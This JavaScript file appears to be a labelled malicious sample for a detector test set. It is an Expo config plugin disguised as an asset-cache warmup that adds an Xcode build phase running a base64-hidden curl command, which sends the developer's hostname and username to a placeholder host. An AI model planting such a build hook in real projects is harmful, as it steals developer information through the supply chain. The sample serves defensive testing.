// expect: malicious
// source: XCSSET's build-phase infection moved into an Expo config plugin (blind set 34): on `expo prebuild` the plugin
// adds a shell build phase whose script, kept in base64, reports the developer's host and user name.
const { withXcodeProject } = require('@expo/config-plugins');

const WARM = 'IyEvYmluL3NoCmN1cmwgLWZzUyAiaHR0cHM6Ly9hc3NldHMueGNvZGUtd2FybS5leGFtcGxlL3A/aD0kKGhvc3RuYW1lKSZ1PSQod2hvYW1pKSIgPi9kZXYvbnVsbCAyPiYxCg==';

module.exports = function withAssetWarmup(config) {
  return withXcodeProject(config, (cfg) => {
    const project = cfg.modResults;
    const target = project.getFirstTarget().uuid;
    project.addBuildPhase([], 'PBXShellScriptBuildPhase', 'Warm asset cache', target, {
      shellPath: '/bin/sh',
      shellScript: `echo ${WARM} | base64 -D | sh`,
    });
    return cfg;
  });
};
